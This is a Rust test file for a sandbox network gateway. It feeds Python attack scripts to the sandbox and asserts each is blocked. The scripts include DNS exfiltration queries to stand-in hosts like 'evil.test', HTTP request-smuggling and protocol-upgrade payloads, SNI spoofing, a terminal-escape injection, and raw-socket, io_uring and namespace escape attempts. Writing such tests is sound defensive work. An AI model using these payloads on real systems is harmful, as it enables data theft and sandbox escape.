//! Section C of the list: protocols that are bent, and channels that are none.

use serde_json::Value;
use system_tests::Res;

use super::world::{lines, shared, with_tools};
use crate::support::until;

/// Asks name servers by hand.
const ASK: &str = r#"
import struct
def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
def ask(server, name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(30)
    s.sendto(query(name, kind), (server, 53))
    answer = s.recv(4096)
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
"#;

#[test]
fn c01_no_question_for_a_name_goes_on() -> Res<()> {
    let Some(fake) = shared("c01")? else {
        return Ok(());
    };
    let script = r#"
print({ask(server, f"exfil-{kind}.evil.test", kind) for server in ["8.8.8.8", "11.0.0.53", "127.0.0.1"] for kind in [5, 6, 15, 16, 65, 33, 12, 99]})
print(ask("8.8.8.8", "exfil.evil.test", 1), ask("8.8.8.8", "exfil-any.evil.test", 255)[0])
print(socket.gethostbyname("exfil-data.a.wild.test").startswith("198.1"), socket.gethostbyname("exfil-data.cdn.test").startswith("198.1"))
data = query("exfil-tcp.evil.test", 16)
s = tcp("8.8.8.8", 53)
s.sendall(struct.pack(">H", len(data)) + data)
s.settimeout(30)
print(len(s.recv(4096)) > 12)
tell(lambda: read(tcp("11.0.0.53", 853)))
tell(https, "exfil-doh.evil.test", "/dns-query?dns=c01")
tell(https, "dns.google", "/dns-query?dns=c01", at="8.8.8.8")
"#;
    let told = fake.attack("c01", &format!("{ASK}{script}"))?;
    assert_eq!(
        told[1..],
        [
            "(0, 1) 0",
            "True True",
            "True",
            "ConnectionRefusedError",
            "403 no_rule",
            "403 no_rule"
        ]
    );
    assert_eq!(told[0], "{(0, 0)}");
    fake.denied("c01", "no_rule")?;
    assert!(
        fake.net
            .names
            .asked()
            .iter()
            .all(|name| !name.contains("exfil"))
    );
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn c03_no_datagram_leaves() -> Res<()> {
    let Some(fake) = shared("c03")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c03",
        r#"
for port in [443, 123, 3478, 51820, 500]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(30)
    s.connect(("11.66.66.66", port))
    try:
        s.send(b"c03")
        s.recv(1)
        print("answered")
    except OSError as e:
        print(type(e).__name__)
"#,
    )?;
    assert_eq!(told, ["ConnectionRefusedError"; 5]);
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn c04_no_socket_but_tcp_udp_and_unix_can_be_made() -> Res<()> {
    let Some(fake) = shared("c04")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c04",
        r#"
def make(*args):
    try:
        socket.socket(*args)
        return "made"
    except OSError as e:
        return type(e).__name__
# Raw, of ICMP and of all; packets; vsock; crypto; netfilter; Bluetooth; CAN; SCTP.
for args in [(2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 0x300), (40, 1, 0), (38, 5, 0), (16, 3, 12), (31, 3, 1), (29, 3, 1), (2, 1, 132)]:
    print(make(*args))
# A ping is a datagram of ICMP: either it cannot be made, or what is sent comes to the sandbox itself.
print(os.popen("cat /proc/sys/net/ipv4/ping_group_range").read().split())
"#,
    )?;
    assert_eq!(told[..10], ["PermissionError"; 10]);
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn c05_nothing_leads_to_http3_or_hides_a_name() -> Res<()> {
    let Some(fake) = shared("c05")? else {
        return Ok(());
    };
    let script = r#"
answer = https("cdn.test", "/h3")
print(said(answer), b"alt-svc" in answer.lower())
print(ask("8.8.8.8", "cdn.test", 65), ask("8.8.8.8", "cdn.test", 64))
tell(https, "cdn.test", "/c05-inner", sni="outer.evil.test")
"#;
    let told = fake.attack("c05", &format!("{ASK}{script}"))?;
    assert_eq!(told[..2], ["200 False", "(0, 0) (0, 0)"]);
    assert!(
        ["403 no_rule", "421 mismatch"].contains(&told[2].as_str()),
        "{told:?}"
    );
    assert_eq!(fake.got("c05-inner"), []);
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn c06_smuggling_requests_that_two_could_read_in_two_ways_are_refused() -> Res<()> {
    let Some(fake) = shared("c06")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c06",
        r#"
host = "Host: cdn.test\r\n"
hidden = "GET /c06-hidden HTTP/1.1\r\nHost: cdn.test\r\n\r\n"
for head in [
    f"POST /c06 HTTP/1.1\r\n{host}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    f"POST /c06 HTTP/1.1\r\n{host}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    f"POST /c06 HTTP/1.1\r\n{host}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    f"POST /c06 HTTP/1.1\r\n{host}Content-Length: 0\r\nContent-Length: 52\r\n\r\n",
    f"GET /c06 HTTP/1.1\r\n{host}Host: evil.test\r\n\r\n",
    f"GET /c06 HTTP/1.1\r\n{host}X: a\r\n b\r\n\r\n",
    f"GET /c06 HTTP/1.1\r\n{host}X: a\0b\r\n\r\n",
    f"GET /c06 HTTP/1.1\nHost: cdn.test\n\n",
    f"GET /c06 HTTP/1.1\r\nHost: cdn.test\rX: y\r\n\r\n",
]:
    print(said(talk(tls("cdn.test"), head + hidden)))
"#,
    )?;
    assert_eq!(told, ["400 protocol"; 9]);
    fake.denied("c06", "protocol")?;
    assert_eq!(fake.got("/c06"), []);
    Ok(())
}

#[test]
fn c08_no_other_protocol_is_switched_to() -> Res<()> {
    let Some(fake) = shared("c08")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c08",
        r#"
print(said(talk(tls("cdn.test"), "CONNECT evil.test:443 HTTP/1.1\r\nHost: cdn.test\r\nConnection: close\r\n\r\n")))
def switch(to):
    return talk(tls("cdn.test"), f"GET /c08-{to} HTTP/1.1\r\nHost: cdn.test\r\nConnection: close, Upgrade\r\nUpgrade: {to}\r\n\r\n")
for to in ["h2c", "connect-udp", "TLS/1.0", "SSH"]:
    print(said(switch(to)))
"#,
    )?;
    assert!(
        told[0].starts_with("403 ") || told[0].starts_with("421 "),
        "{told:?}"
    );
    for told in &told[1..] {
        assert!(
            [
                "200",
                "403 protocol",
                "400 protocol",
                "403 rule",
                "403 no_rule"
            ]
            .contains(&told.as_str()),
            "{told}"
        );
    }
    assert!(
        fake.got("/c08")
            .iter()
            .all(|seen| seen.header("upgrade").is_none())
    );
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn c12_a_hello_in_pieces_is_a_hello() -> Res<()> {
    let Some(fake) = shared("c12")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c12",
        r#"
context = ssl.create_default_context()
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
hello = context.wrap_bio(incoming, outgoing, server_hostname="cdn.test")
try:
    hello.do_handshake()
except ssl.SSLWantReadError:
    pass
record = outgoing.read()
pieces = b"".join(record[:3] + b"\0\1" + bytes([byte]) for byte in record[5:])
s = tcp("cdn.test", 443)
s.settimeout(30)
s.sendall(pieces)
print(s.recv(1))
s = tcp("cdn.test", 443)
s.sendall(record[:3] + b"\0\0")
s.close()
tell(https, "cdn.test", "/c12")
"#,
    )?;
    // The answer is a handshake; and the gateway lives.
    assert_eq!(told, ["b'\\x16'", "200"]);
    assert_eq!(fake.effects("c12")?.len(), 1);
    Ok(())
}

#[test]
fn c13_one_sandboxs_idle_connections_keep_no_other_out() -> Res<()> {
    let Some(fake) = shared("c13")? else {
        return Ok(());
    };
    fake.create("c13", &fake.rules())?;
    // More than one sandbox may have at a time: the rest waits in the kernel.
    let script = r#"
import resource, sys
sys.path.insert(0, "/workspace")
from attack import *
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
held = []
for n in range(min(1100, hard - 50)):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("11.66.66.66", 443))
    held.append(s)
print("idle", flush=True)
sys.stdin.read()
"#;
    let mut command = fake.world.command([
        "exec",
        "-i",
        "c13",
        "--op",
        "c13",
        "--",
        "/usr/bin/python3",
        "-c",
        script,
    ]);
    command.stdin(std::process::Stdio::piped());
    let mut idle = system_tests::Client::start(command)?;
    let held = idle.stdin();
    assert!(idle.wait_out(5, crate::support::SOON), "{}", idle.words());
    let told = fake.attack_in("b", "c13", r#"tell(https, "cdn.test", "/c13")"#)?;
    assert_eq!(told, ["200"]);
    drop(held);
    idle.finish()?.ok()?;
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn c15_heads_that_are_too_large_are_refused() -> Res<()> {
    let Some(fake) = shared("c15")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c15",
        r#"
tell(https, "cdn.test", "/c15", headers=[("X-Long", "y" * (80 << 10))])
tell(https, "cdn.test", "/c15", headers=[(f"X-{n}", "y") for n in range(300)])
"#,
    )?;
    for told in &told {
        assert!(told.starts_with('4'), "{told}");
    }
    assert_eq!(fake.got("/c15"), []);
    fake.denied("c15", "protocol")?;
    Ok(())
}

#[test]
fn c16_a_wildcard_is_asked_for_after_it_is_allowed_and_is_journaled() -> Res<()> {
    let Some(fake) = shared("c16")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c16",
        r#"
for n in range(50):
    socket.gethostbyname(f"exfil-{n}.wild.test")
tell(https, "exfil-post.wild.test", "/c16", "POST", body="data")
tell(https, "data-c16.wild.test", "/c16")
"#,
    )?;
    assert_eq!(told, ["403 no_rule", "200"]);
    assert!(
        fake.net
            .names
            .asked()
            .iter()
            .all(|name| !name.contains("exfil"))
    );
    let effects = fake.effects("c16")?;
    assert_eq!(
        (effects.len(), &effects[0]["host"]),
        (1, &"data-c16.wild.test".into())
    );
    fake.denied("c16", "no_rule")?;
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn c17_a_budget_ends_what_is_told_in_many_or_large_requests() -> Res<()> {
    let Some(fake) = shared("c17")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c17",
        r#"
tell(https, "budget.test", "/c17-large", "POST", body="x" * 1025)
for n in range(5):
    tell(https, "budget.test", f"/c17-{n}")
"#,
    )?;
    assert_eq!(told[0], "413 budget");
    assert_eq!(told[4..], ["429 budget"; 2]);
    fake.denied("c17", "budget")?;
    assert!(fake.got("/c17").len() <= 3);
    Ok(())
}

#[test]
fn c18_a_push_to_another_repository_or_with_ones_own_token_is_refused() -> Res<()> {
    let Some(fake) = shared("c18")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c18",
        r#"
def push(repository, ref):
    first = f"{'0' * 40} {'1' * 40} {ref}\0 report-status\n"
    body = f"{len(first) + 4:04x}{first}0000PACK"
    tell(https, "git.test", f"/{repository}.git/git-receive-pack", "POST", headers=[("Content-Type", "application/x-git-receive-pack-request")], body=body)
push("acme/app", "refs/heads/agent/c18")
push("acme/app", "refs/heads/main-c18")
push("evil/app-c18", "refs/heads/agent/c18")
push("acme/other-c18", "refs/heads/agent/c18")
tell(https, "git.test", "/evil/c18.git/info/refs?service=git-upload-pack")
tell(https, "git.test", "/gists/c18", "POST", body="data")
tell(https, "strict.test", "/c18", headers=[("Authorization", "Bearer ghp_mine")])
"#,
    )?;
    assert_eq!(told[0], "200", "{told:?}");
    for told in &told[1..6] {
        assert!(told.starts_with("403 "), "{told}");
    }
    assert_eq!(told[6], "403 secret");
    let reached = fake.server.seen();
    let reached: Vec<_> = reached
        .iter()
        .filter(|seen| format!("{seen:?}").contains("c18") || seen.line.contains("receive-pack"))
        .collect();
    assert_eq!(reached.len(), 1, "{reached:?}");
    fake.denied("c18", "no_rule")?;
    fake.denied("c18", "secret")?;
    Ok(())
}

#[test]
fn c19_where_reading_is_allowed_nothing_is_published() -> Res<()> {
    let Some(fake) = shared("c19")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c19",
        r#"
tell(https, "registry.test", "/c19-read")
for method in ["PUT", "POST", "DELETE", "PATCH", "get", "GETX"]:
    tell(https, "registry.test", "/c19", method, body="data")
for name in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"]:
    tell(https, "registry.test", "/c19", headers=[(name, "PUT")])
"#,
    )?;
    assert_eq!(told[0], "200");
    for told in &told[1..] {
        assert!(told.starts_with('4'), "{told}");
    }
    assert!(
        fake.got("/c19")
            .iter()
            .all(|seen| seen.line.contains("c19-read"))
    );
    fake.denied("c19", "no_rule")?;
    Ok(())
}

#[test]
fn c21_a_tighter_policy_ends_what_is_open() -> Res<()> {
    let Some(fake) = shared("c21")? else {
        return Ok(());
    };
    fake.create("c21", &fake.rules())?;
    let script = r#"
import sys
sys.path.insert(0, "/workspace")
from attack import *
tunnel, kept = tls("tunnel.test"), tls("cdn.test")
for s, host in [(tunnel, "tunnel.test"), (kept, "cdn.test")]:
    s.sendall(f"GET /c21 HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    answer = b""
    while not answer.endswith(b"ok /c21\n"):
        answer += s.recv(4096)
print("open", flush=True)
# Until it is ended from outside.
tunnel.settimeout(60)
try:
    print("ended" if tunnel.recv(1) == b"" else "told")
except TimeoutError:
    print("still open")
except OSError:
    print("ended")
print(said(talk(kept, request("cdn.test", "/c21-late"))))
"#;
    let client = fake.world.start(&[
        "exec",
        "c21",
        "--op",
        "c21",
        "--",
        "/usr/bin/python3",
        "-c",
        script,
    ])?;
    assert!(
        client.wait_out(5, crate::support::SOON),
        "{}",
        client.words()
    );
    fake.set_policy("c21", "")?.ok()?;
    let told = client.finish()?;
    let told: Vec<String> = told.out().lines().map(str::to_owned).collect();
    assert_eq!(told[..2], ["open", "ended"]);
    assert!(
        ["403 no_rule", "nothing"].contains(&told[2].as_str()),
        "{told:?}"
    );
    assert_eq!(fake.got("/c21-late"), []);
    assert_eq!(fake.got("/c21").len(), 2);
    Ok(())
}

#[test]
fn c23_the_gateway_does_not_call_itself() -> Res<()> {
    let Some(fake) = shared("c23")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c23",
        r#"
for place in ["127.0.0.1:8378", "localhost:8378", "127.0.0.1:443", "[::1]:8378", "192.0.0.8:8378"]:
    print(said(connect(place)[1]))
tell(http, "127.0.0.1:8378", "/c23", at="127.0.0.1")
"#,
    )?;
    assert_eq!(told[..5], ["403 no_rule"; 5]);
    // Its port is not the one that was dialled.
    assert_eq!(told[5], "421 mismatch");
    fake.denied("c23", "no_rule")?;
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn c24_a_word_is_good_for_the_request_that_was_asked_and_no_other() -> Res<()> {
    let Some(fake) = shared("c24")? else {
        return Ok(());
    };
    fake.create("c24", &fake.rules())?;
    let ask = |op: &str, path: &str, body: &str| {
        let script = with_tools(&format!(
            "tell(https, 'ask.test', {path:?}, 'POST', body={body:?})"
        ));
        fake.world.start(&[
            "exec",
            "c24",
            "--op",
            op,
            "--",
            "/usr/bin/python3",
            "-c",
            &script,
        ])
    };
    let waiting = || lines(&fake.world, &["approvals", "c24", "--json"]);
    let next = || -> Res<String> {
        let mut found = Vec::new();
        until("it waits for a word", || {
            found = waiting().unwrap_or_default();
            !found.is_empty()
        })?;
        Ok(found[0]["id"].as_str().unwrap_or_default().to_owned())
    };
    let first = ask("one", "/c24/release", "v=1")?;
    let id = next()?;
    assert_eq!(fake.got("/c24"), []);
    fake.world.must(&["approve", "c24", &id])?;
    assert_eq!(first.finish()?.out(), "200\n");
    // Another path, and text that would rewrite a terminal: asked anew, and told as what it is.
    let second = ask("two", "/c24/release?%1b[2K%0aapproved", "v=1")?;
    let again = next()?;
    assert_ne!(again, id);
    let shown = fake.world.must(&["approvals", "c24"])?.out();
    assert!(
        !shown.contains('\u{1b}') && shown.lines().count() <= 4,
        "{shown:?}"
    );
    fake.world.must(&["refuse", "c24", &again])?;
    assert_eq!(second.finish()?.out(), "403 approval\n");
    fake.denied_in("c24", "two", "approval")?;
    // The same once more: the word was used.
    let third = ask("three", "/c24/release", "v=1")?;
    let id = next()?;
    fake.world.must(&["refuse", "c24", &id])?;
    assert_eq!(third.finish()?.out(), "403 approval\n");
    assert_eq!(fake.got("/c24").len(), 1);
    let events: Vec<Value> = lines(&fake.world, &["log", "c24", "--json"])?;
    let used = events
        .iter()
        .filter(|event| event.to_string().contains("approval_used"))
        .count();
    // A yes and two noes, each used up by one request.
    assert_eq!(used, 3);
    Ok(())
}

#[test]
fn c25_no_socket_comes_by_another_way() -> Res<()> {
    let Some(fake) = shared("c25")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c25",
        r#"
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    ctypes.set_errno(0)
    result = libc.syscall(number, *args)
    return os.strerror(ctypes.get_errno()) if result < 0 else "done"
# io_uring_setup, io_uring_enter, io_uring_register: the numbers are those of every architecture.
print([call(number, 8, 0, 0, 0) for number in (425, 426, 427)])
print([link for link in (os.readlink(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd") if os.path.lexists(f"/proc/self/fd/{fd}")) if link.startswith("socket:")])
"#,
    )?;
    assert_eq!(
        told[0],
        "['Function not implemented', 'Function not implemented', 'Function not implemented']"
    );
    assert_eq!(told[1], "[]");
    Ok(())
}

#[test]
fn c26_no_namespace_can_be_made_inside() -> Res<()> {
    let Some(fake) = shared("c26")? else {
        return Ok(());
    };
    let told = fake.attack(
        "c26",
        r#"
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
# User, network, mount, process ids, and user with network.
for flags in [0x10000000, 0x40000000, 0x00020000, 0x20000000, 0x50000000]:
    print(libc.unshare(flags), os.strerror(ctypes.get_errno()))
print(os.system("ip link add x type dummy 2>/dev/null") != 0, os.system("ip route add 11.0.0.0/8 via 127.0.0.1 2>/dev/null") != 0)
"#,
    )?;
    assert_eq!(told[..5], ["-1 Operation not permitted"; 5]);
    assert_eq!(told[5], "True True");
    fake.nothing_leaked();
    Ok(())
}

/// A canary that sees nothing proves nothing unless it is seen to see: in a fake internet of its own.
#[test]
fn the_canary_sees_what_leaks() -> Res<()> {
    if !crate::is_root("the_canary_sees_what_leaks") {
        return Ok(());
    }
    let world = system_tests::World::new("canary")?;
    let mut net = system_tests::internet::Internet::new(
        world.root(),
        &world.command(["ps"]),
        &[],
        Default::default(),
    )?;
    assert_eq!(net.leaks(), "");
    net.within(|| {
        // Nobody listens there: the attempt alone is seen.
        let refused = std::net::TcpStream::connect(("11.66.66.66", 443));
        assert!(refused.is_err());
        let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
        socket.send_to(b"a datagram that leaks", ("8.8.8.8", 123))?;
        socket.send_to(&[0; 12], ("169.254.169.254", 80))?;
        Ok(())
    })?;
    for what in [
        "-> 11.66.66.66:443",
        "-> 8.8.8.8:123",
        "a datagram that leaks",
        "-> 169.254.169.254:80",
    ] {
        until(what, || net.leaks().contains(what))?;
    }
    net.let_go();
    world.end_clean()
}
